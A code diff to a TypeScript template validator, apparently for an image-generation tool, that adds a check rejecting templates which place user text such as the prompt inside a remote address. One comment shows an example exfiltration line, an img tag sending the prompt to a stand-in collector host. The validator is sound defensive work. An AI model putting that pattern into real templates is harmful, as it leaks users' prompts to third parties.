@@ -17,9 +17,19 @@ export function checkTemplate(template: string, variables: readonly string[], se
       return new IdeogramError({ kind: 'invalid-setting', reason: 'unknown-template-variable', setting, value: template, variable: match[0],
         allowed: variables.map((name) => `\${${name}}`) });
     }
+    // `<img src="https://collector.example/p.gif?q=${prompt}">` would send every prompt to a third party as soon as
+    // a preview renders the link: text never goes into an address with a host.
+    if (TEXT_VARIABLES.includes(match[1] ?? '') && REMOTE_ADDRESS_BEFORE.test(template.slice(0, match.index))) {
+      return new IdeogramError({ kind: 'invalid-setting', reason: 'remote-template', setting, value: template, variable: match[0] });
+    }
   }
   return undefined;
 }
+
+/** The variables that carry the user's text (not the image's own path or size). */
+const TEXT_VARIABLES: readonly string[] = ['prompt', 'alt', 'fileName'];
+/** The text before a variable ends inside an address with a host (`scheme://…` or `//…`), not yet closed. */
+const REMOTE_ADDRESS_BEFORE = /(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s"'<>()[\]]*$/i;
 
 /** True when the variable at `index` sits inside a double-quoted HTML attribute value: `src="${path}"`. */
 function inHtmlAttribute(template: string, index: number): boolean {
